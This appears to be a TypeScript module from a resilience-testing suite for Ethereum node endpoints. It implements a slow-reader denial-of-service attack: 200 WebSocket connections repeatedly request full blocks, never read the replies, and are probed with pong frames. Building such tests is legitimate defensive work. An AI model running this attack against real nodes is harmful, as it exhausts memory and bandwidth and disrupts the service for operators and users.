/** 200 WebSockets ask for blocks of 5 MB, again and again, and never read an answer; their pongs arrive. */

import { type Attack, hosts } from '../attack.ts';
import { request, unread } from '../many.ts';
import { FULL_BLOCK } from '../node-answers.ts';
import { pongFrame, textFrame, upgrade } from '../raw.ts';

export const unreadWebSocket: Attack = {
  name: 'non-readers over WebSocket',
  run(target, seen, signal) {
    const call = textFrame(request('eth_getBlockByNumber', FULL_BLOCK));
    const bytes = [upgrade(target, hosts.node), ...Array.from({ length: 20 }, () => call)];
    return unread(200, { target, seen, signal }, { bytes, probe: pongFrame });
  },
};
